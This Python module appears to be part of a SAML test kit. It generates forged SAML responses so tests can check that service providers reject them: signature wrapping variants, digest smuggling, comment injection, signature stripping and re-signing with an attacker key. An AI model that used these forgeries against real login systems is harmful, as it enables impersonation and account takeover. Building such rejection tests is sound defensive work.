"""Attacks on SAML Responses, for tests that an SP rejects them.

Each function takes Response XML (as `SamlIdp.response()` makes it) and returns attacked
XML, modelling a class of real SP bugs:

- `tamper_name_id`, `replace_audience`: content changed after signing; any SP that
  verifies signatures at all must reject.
- `strip_signatures`: SPs that accept unsigned responses/assertions when the signature is
  simply absent (the oldest SAML bug).
- `signature_wrapping` (XSW, Somorovsky et al., "On Breaking SAML", 2012): the original,
  still valid signature stays in the document, but the element the SP reads is an unsigned
  one the attacker added. Recent instances: samlify CVE-2025-47949 and node-saml
  CVE-2025-54419 (the signature checked on one node, the identity read from another), and
  ruby-saml CVE-2024-45409 (a DigestValue looked up with an unanchored XPath, so an
  attacker-placed one was compared; variant 9 below).
- `comment_injection`: CVE-2017-11427 class (python-saml, ruby-saml, OmniAuth-SAML and
  others in 2018): exclusive c14n without comments drops comments, so an IdP-signed NameID
  `victim@corp.test<!---->.evil.test` verifies, and an SP that reads only the first text
  node logs the attacker in as `victim@corp.test`.
- `resign_with_unknown_key`: a signature by a key the SP never trusted, with its
  certificate in KeyInfo (SPs that trust KeyInfo instead of pinned metadata).
- `corrupt_ciphertext`, `junk_encrypted_assertion`: encrypted assertions the SP cannot
  decrypt (changed in transit, or made up in an unsigned response); SPs whose decryption
  errors escape as server errors instead of refusals.
"""

from __future__ import annotations

import base64
import copy
import hashlib
import uuid
from pathlib import Path
from typing import Any, Literal

import xmlsec
from lxml import etree

from tenantry_testkit.saml_idp import (
    NS_DS,
    NS_SAML,
    NS_SAMLP,
    NS_XENC,
    SamlIdp,
    SamlUser,
    make_key_and_cert,
    parse_xml,
    pem_of_cert,
    pem_of_key,
)

_DS = f"{{{NS_DS}}}"
_SAML = f"{{{NS_SAML}}}"
_SAMLP = f"{{{NS_SAMLP}}}"
_XENC = f"{{{NS_XENC}}}"

_DIGESTS = {
    "http://www.w3.org/2000/09/xmldsig#sha1": hashlib.sha1,
    "http://www.w3.org/2001/04/xmlenc#sha256": hashlib.sha256,
    "http://www.w3.org/2001/04/xmldsig-more#sha384": hashlib.sha384,
    "http://www.w3.org/2001/04/xmlenc#sha512": hashlib.sha512,
}

XSW_DESCRIPTIONS: dict[int, str] = {
    1: "evil Response wrapping: the original signed Response (its Signature moved out) "
    "sits inside a copy of its Signature, in a new Response carrying an evil assertion",
    2: "evil Response wrapping: the original signed Response sits before a copy of its "
    "Signature, in a new Response carrying an evil assertion",
    3: "an unsigned evil assertion placed before the signed one in the Response",
    4: "an unsigned evil assertion that contains the original signed assertion",
    5: "an evil assertion carrying the original Signature; the original assertion, "
    "unsigned now, moved to the end of the Response",
    6: "an evil assertion carrying the original Signature, with the original assertion "
    "inside that Signature",
    7: "the signed assertion moved into samlp:Extensions, an evil assertion in its place",
    8: "an evil assertion carrying the original Signature, with the original assertion "
    "inside a ds:Object of that Signature",
    9: "digest smuggling (CVE-2024-45409): the assertion tampered in place, its Signature "
    "kept as is, and a ds:DigestValue of the tampered assertion put in samlp:Extensions, "
    "ahead of the real one in document order",
}
XSW_VARIANTS: tuple[int, ...] = tuple(XSW_DESCRIPTIONS)
RESPONSE_XSW_VARIANTS = (1, 2)  # need a signed Response
ASSERTION_XSW_VARIANTS = (3, 4, 5, 6, 7, 8, 9)  # need a signed Assertion


def _parse(xml: str) -> Any:
    root = parse_xml(xml)
    if root.tag != f"{_SAMLP}Response":
        raise ValueError(f"not a samlp:Response: {root.tag}")
    if (
        root.find(f"{_SAML}Assertion") is None
        and root.find(f"{_SAML}EncryptedAssertion") is not None
    ):
        raise ValueError("the assertion is encrypted: these attacks need a plaintext assertion")
    return root


def _serialize(root: Any) -> str:
    return str(etree.tostring(root, encoding="unicode"))


def _detach(element: Any) -> Any:
    """Remove `element` from its parent but leave its tail text where it was (lxml would
    take it along, which changes the parent's digest for no reason)."""
    parent = element.getparent()
    if parent is None:
        return element
    if element.tail:
        previous = element.getprevious()
        if previous is not None:
            previous.tail = (previous.tail or "") + element.tail
        else:
            parent.text = (parent.text or "") + element.tail
        element.tail = None
    parent.remove(element)
    return element


def _insert_after_issuer(parent: Any, child: Any) -> None:
    """Put `child` where a Signature (or Extensions) goes: right after the Issuer, after a
    Signature already there."""
    index = 0
    for position, node in enumerate(parent):
        if node.tag in (f"{_SAML}Issuer", f"{_DS}Signature"):
            index = position + 1
    parent.insert(index, child)


def _new_id() -> str:
    return f"_{uuid.uuid4().hex}"


def _signature_of(element: Any) -> Any:
    return element.find(f"{_DS}Signature")


def _set_name_id(assertion: Any, new_name_id: str) -> None:
    """Replace the subject's NameID text, and attribute values equal to the old NameID
    (the email attribute usually is), so SPs keyed on either are attacked alike."""
    for name_id in assertion.iterfind(f"{_SAML}Subject/{_SAML}NameID"):
        old = "".join(name_id.itertext())
        for child in list(name_id):
            name_id.remove(child)
        name_id.text = new_name_id
        for value in assertion.iter(f"{_SAML}AttributeValue"):
            if "".join(value.itertext()) == old:
                for child in list(value):
                    value.remove(child)
                value.text = new_name_id


def _evil_copy(assertion: Any, evil_name_id: str) -> Any:
    evil = copy.deepcopy(assertion)
    signature = _signature_of(evil)
    if signature is not None:
        _detach(signature)
    evil.set("ID", _new_id())
    _set_name_id(evil, evil_name_id)
    evil.tail = None
    return evil


def tamper_name_id(xml: str, new_name_id: str) -> str:
    """Change every assertion's subject NameID (and attribute values equal to it) after
    signing; signatures are left as they were, now invalid."""
    root = _parse(xml)
    for assertion in root.iter(f"{_SAML}Assertion"):
        _set_name_id(assertion, new_name_id)
    return _serialize(root)


def strip_signatures(xml: str) -> str:
    """Remove every ds:Signature in the document."""
    root = _parse(xml)
    for signature in list(root.iter(f"{_DS}Signature")):
        _detach(signature)
    return _serialize(root)


def replace_audience(xml: str, audience: str) -> str:
    """Set every Audience to `audience` after signing (a response meant for another SP)."""
    root = _parse(xml)
    for element in root.iter(f"{_SAML}Audience"):
        element.text = audience
    return _serialize(root)


def _digest_as_verifier_would(assertion: Any, reference: Any) -> str:
    """The DigestValue the Reference would carry for `assertion` as it is now: enveloped
    signature removed, exclusive c14n without comments, the Reference's digest method."""
    method = reference.find(f"{_DS}DigestMethod").get("Algorithm")
    if method not in _DIGESTS:
        raise ValueError(f"unsupported digest method {method}")
    prefixes: list[str] = []
    for transform in reference.iterfind(f"{_DS}Transforms/{_DS}Transform"):
        for inclusive in transform:
            if etree.QName(inclusive).localname == "InclusiveNamespaces":
                prefixes = (inclusive.get("PrefixList") or "").split()
    subject = copy.deepcopy(assertion)
    signature = _signature_of(subject)
    if signature is not None:
        _detach(signature)
    canonical = etree.tostring(
        subject,
        method="c14n",
        exclusive=True,
        with_comments=False,
        inclusive_ns_prefixes=prefixes or None,
    )
    return base64.b64encode(_DIGESTS[method](canonical).digest()).decode()


def assertion_digest(xml: str) -> tuple[str, str]:
    """(DigestValue in the first assertion's signature, digest recomputed here): equal for
    an untouched assertion, which shows variant 9's smuggled digest is computed the way
    verifiers compute it."""
    root = _parse(xml)
    assertion = root.find(f"{_SAML}Assertion")
    signature = _signature_of(assertion) if assertion is not None else None
    if signature is None:
        raise ValueError("no signed assertion")
    reference = signature.find(f"{_DS}SignedInfo/{_DS}Reference")
    stated = (reference.findtext(f"{_DS}DigestValue") or "").strip()
    return stated, _digest_as_verifier_would(assertion, reference)


def signature_wrapping(xml: str, variant: int, evil_name_id: str) -> str:
    """An XML Signature Wrapping attack (see `XSW_DESCRIPTIONS`). The original signature
    is kept intact somewhere in the document, so a verifier that only asks "does some
    signature in here verify with the IdP key?" passes, while the assertion an SP naively
    reads (the first Assertion child of the Response) names `evil_name_id`.

    Variants 1, 6 and 8 put the signed original inside the copied Signature: a verifier
    that applies the enveloped-signature transform as specified (xmlsec, hence
    python3-saml) drops everything under that Signature and fails the digest, while one
    that only strips Signature elements inside the referenced element (the common naive
    implementation) verifies it. Variant 9 fails any verifier that checks the digest of
    the Reference it verified; it passes one that looks the DigestValue up elsewhere.

    Variants 1-2 need a signed Response, 3-9 a signed Assertion; the assertion-level
    variants drop the Response signature (it would no longer verify, and it is optional
    in SAML)."""
    if variant not in XSW_DESCRIPTIONS:
        raise ValueError(f"no XSW variant {variant}; choose from {XSW_VARIANTS}")
    root = _parse(xml)
    if variant in RESPONSE_XSW_VARIANTS:
        return _serialize(_wrap_response(root, variant, evil_name_id))
    assertion = root.find(f"{_SAML}Assertion")
    signature = _signature_of(assertion) if assertion is not None else None
    if signature is None:
        raise ValueError(f"XSW{variant} needs a signed Assertion")
    response_signature = _signature_of(root)
    if response_signature is not None:
        _detach(response_signature)
    index = root.index(assertion)

    if variant == 3:
        root.insert(index, _evil_copy(assertion, evil_name_id))
    elif variant == 4:
        evil = _evil_copy(assertion, evil_name_id)
        _detach(assertion)
        evil.append(assertion)
        root.insert(index, evil)
    elif variant in (5, 6, 8):
        evil = _evil_copy(assertion, evil_name_id)
        moved = _detach(signature)
        _insert_after_issuer(evil, moved)
        _detach(assertion)
        root.insert(index, evil)
        if variant == 5:
            root.append(assertion)
        elif variant == 6:
            moved.append(assertion)
        else:
            holder = etree.SubElement(moved, f"{_DS}Object")
            holder.append(assertion)
    elif variant == 7:
        evil = _evil_copy(assertion, evil_name_id)
        _detach(assertion)
        root.insert(index, evil)
        extensions = etree.Element(f"{_SAMLP}Extensions")
        extensions.append(assertion)
        _insert_after_issuer(root, extensions)
    else:  # 9: digest smuggling
        reference = signature.find(f"{_DS}SignedInfo/{_DS}Reference")
        _set_name_id(assertion, evil_name_id)
        smuggled = etree.Element(f"{_DS}DigestValue", nsmap={"ds": NS_DS})
        smuggled.text = _digest_as_verifier_would(assertion, reference)
        extensions = etree.Element(f"{_SAMLP}Extensions")
        extensions.append(smuggled)
        _insert_after_issuer(root, extensions)
    return _serialize(root)


def _wrap_response(root: Any, variant: int, evil_name_id: str) -> Any:
    signature = _signature_of(root)
    if signature is None:
        raise ValueError(f"XSW{variant} needs a signed Response")
    original = copy.deepcopy(root)
    _detach(_signature_of(original))
    original.tail = None
    evil = root
    _detach(signature)
    evil.set("ID", _new_id())
    for assertion in evil.findall(f"{_SAML}Assertion"):
        inner = _signature_of(assertion)
        if inner is not None:
            _detach(inner)
        assertion.set("ID", _new_id())
        _set_name_id(assertion, evil_name_id)
    copied = copy.deepcopy(signature)
    copied.tail = None
    _insert_after_issuer(evil, copied)
    if variant == 1:
        copied.append(original)
    else:
        evil.insert(evil.index(copied), original)
    return evil


def comment_injection(
    idp: SamlIdp,
    *,
    sp_entity_id: str,
    acs_url: str,
    victim: str,
    attacker_suffix: str,
    in_response_to: str | None = None,
    email_attribute: str = "email",
    extra_attributes: dict[str, list[str]] | None = None,
    **response_options: Any,
) -> str:
    """What an attacker who owns `victim + attacker_suffix` at the IdP gets (e.g. the
    account `ann@corp.test.evil.test`): a response the IdP validly signed for that account,
    with an XML comment inserted into the NameID and email values so they read
    `victim<!---->attacker_suffix`. The comment goes in after signing, exactly as an
    attacker must do it: the references are same-document `#ID` URIs under exclusive c14n
    without comments, which drop comments, so every signature still verifies."""
    if response_options.get("encrypt"):
        raise ValueError("comment injection needs a plaintext assertion")
    owned = victim + attacker_suffix
    attributes = {email_attribute: [owned], **(extra_attributes or {})}
    xml = idp.response(
        sp_entity_id=sp_entity_id,
        acs_url=acs_url,
        user=SamlUser(name_id=owned, attributes=attributes),
        in_response_to=in_response_to,
        **response_options,
    )
    root = _parse(xml)
    targets = [
        *root.iterfind(f"{_SAML}Assertion/{_SAML}Subject/{_SAML}NameID"),
        *(
            value
            for value in root.iter(f"{_SAML}AttributeValue")
            if "".join(value.itertext()) == owned
        ),
    ]
    for element in targets:
        comment = etree.Comment("")
        comment.tail = attacker_suffix
        element.text = victim
        element.insert(0, comment)
    return _serialize(root)


_SIGN_TRANSFORMS = {
    "http://www.w3.org/2000/09/xmldsig#rsa-sha1": xmlsec.constants.TransformRsaSha1,
    "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256": xmlsec.constants.TransformRsaSha256,
    "http://www.w3.org/2001/04/xmldsig-more#rsa-sha384": xmlsec.constants.TransformRsaSha384,
    "http://www.w3.org/2001/04/xmldsig-more#rsa-sha512": xmlsec.constants.TransformRsaSha512,
}
_DIGEST_TRANSFORMS = {
    "http://www.w3.org/2000/09/xmldsig#sha1": xmlsec.constants.TransformSha1,
    "http://www.w3.org/2001/04/xmlenc#sha256": xmlsec.constants.TransformSha256,
    "http://www.w3.org/2001/04/xmldsig-more#sha384": xmlsec.constants.TransformSha384,
    "http://www.w3.org/2001/04/xmlenc#sha512": xmlsec.constants.TransformSha512,
}


def sign_element(
    element: Any,
    *,
    key_pem: str,
    cert_pem: str,
    sign_alg: str = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
    digest_alg: str = "http://www.w3.org/2001/04/xmlenc#sha256",
) -> None:
    """Add an enveloped signature over `element` (referenced by its ID) after its Issuer,
    the way IdPs sign: exclusive c14n, the certificate in KeyInfo."""
    signature = xmlsec.template.create(
        element, xmlsec.constants.TransformExclC14N, _SIGN_TRANSFORMS[sign_alg], ns="ds"
    )
    _insert_after_issuer(element, signature)
    reference = xmlsec.template.add_reference(
        signature, _DIGEST_TRANSFORMS[digest_alg], uri=f"#{element.get('ID')}"
    )
    xmlsec.template.add_transform(reference, xmlsec.constants.TransformEnveloped)
    xmlsec.template.add_transform(reference, xmlsec.constants.TransformExclC14N)
    key_info = xmlsec.template.ensure_key_info(signature)
    x509_data = xmlsec.template.add_x509_data(key_info)
    xmlsec.template.x509_data_add_certificate(x509_data)
    key = xmlsec.Key.from_memory(key_pem.encode(), xmlsec.constants.KeyDataFormatPem)
    key.load_cert_from_memory(cert_pem.encode(), xmlsec.constants.KeyDataFormatCertPem)
    context = xmlsec.SignatureContext()
    context.key = key
    context.register_id(element, "ID")
    context.sign(signature)


def resign_with_unknown_key(xml: str, workdir: Path) -> str:
    """Re-sign a (tampered) response with a fresh key the SP has never seen, its
    certificate in KeyInfo: what was signed before is signed again (assertions first, then
    the Response); if nothing was, both are. The key and certificate are written to
    `workdir` as attacker-<n>-key.pem / attacker-<n>-cert.pem."""
    root = _parse(xml)
    assertions = root.findall(f"{_SAML}Assertion")
    signed_assertions = [a for a in assertions if _signature_of(a) is not None]
    response_signed = _signature_of(root) is not None
    if not signed_assertions and not response_signed:
        signed_assertions, response_signed = assertions, True
    for signature in list(root.iter(f"{_DS}Signature")):
        _detach(signature)
    key, cert = make_key_and_cert("attacker")
    key_text, cert_text = pem_of_key(key), pem_of_cert(cert)
    workdir.mkdir(parents=True, exist_ok=True)
    stem = f"attacker-{uuid.uuid4().hex[:8]}"
    (workdir / f"{stem}-key.pem").write_text(key_text)
    (workdir / f"{stem}-cert.pem").write_text(cert_text)
    for assertion in signed_assertions:
        sign_element(assertion, key_pem=key_text, cert_pem=cert_text)
    if response_signed:
        sign_element(root, key_pem=key_text, cert_pem=cert_text)
    return _serialize(root)


# --- encrypted assertions the SP cannot decrypt -------------------------------------------


def _flip_base64(text: str) -> str:
    """The same length of base64, every byte of what it encodes changed."""
    data = base64.b64decode("".join(text.split()))
    return base64.b64encode(bytes(b ^ 0x5A for b in data)).decode()


def corrupt_ciphertext(xml: str, part: Literal["assertion", "key"] = "assertion") -> str:
    """An EncryptedAssertion whose ciphertext changed in transit: the assertion's own
    CipherValue, or the wrapped session key's. Signatures are left as they are (a signed
    Response no longer verifies; an unsigned one gets as far as decryption)."""
    root = parse_xml(xml)
    encrypted = root.find(f"{_SAML}EncryptedAssertion/{_XENC}EncryptedData")
    if encrypted is None:
        raise ValueError("no EncryptedAssertion/EncryptedData: make the response with encrypt")
    if part == "assertion":
        value = encrypted.find(f"{_XENC}CipherData/{_XENC}CipherValue")
    else:
        value = encrypted.find(f".//{_XENC}EncryptedKey/{_XENC}CipherData/{_XENC}CipherValue")
    if value is None:
        raise ValueError(f"no CipherValue for the {part}")
    value.text = _flip_base64(value.text or "")
    return _serialize(root)


JunkKind = Literal["ciphertext", "no-key-info", "empty-key-info", "retrieval-method"]


def junk_encrypted_assertion(xml: str, kind: JunkKind = "ciphertext") -> str:
    """An unsigned Response whose assertion is replaced by a made-up EncryptedAssertion:
    well-formed XML Encryption with random ciphertext (`ciphertext`), or structurally
    broken: no KeyInfo, an empty one, or a RetrievalMethod without its Type."""
    root = parse_xml(xml)
    for signature in list(root.iter(f"{_DS}Signature")):
        _detach(signature)
    for old in [*root.findall(f"{_SAML}Assertion"), *root.findall(f"{_SAML}EncryptedAssertion")]:
        _detach(old)
    wrapper = etree.SubElement(root, f"{_SAML}EncryptedAssertion")
    data = etree.SubElement(
        wrapper, f"{_XENC}EncryptedData", Type="http://www.w3.org/2001/04/xmlenc#Element"
    )
    etree.SubElement(
        data, f"{_XENC}EncryptionMethod", Algorithm="http://www.w3.org/2001/04/xmlenc#aes256-cbc"
    )
    if kind != "no-key-info":
        key_info = etree.SubElement(data, f"{_DS}KeyInfo")
        if kind == "ciphertext":
            key = etree.SubElement(key_info, f"{_XENC}EncryptedKey")
            etree.SubElement(
                key,
                f"{_XENC}EncryptionMethod",
                Algorithm="http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p",
            )
            key_data = etree.SubElement(key, f"{_XENC}CipherData")
            cipher = etree.SubElement(key_data, f"{_XENC}CipherValue")
            cipher.text = base64.b64encode(hashlib.sha512(b"key").digest() * 4).decode()
        elif kind == "retrieval-method":
            etree.SubElement(key_info, f"{_DS}RetrievalMethod", URI="#EK_1")
    value = etree.SubElement(etree.SubElement(data, f"{_XENC}CipherData"), f"{_XENC}CipherValue")
    value.text = base64.b64encode(hashlib.sha512(b"assertion").digest() * 8).decode()
    return _serialize(root)
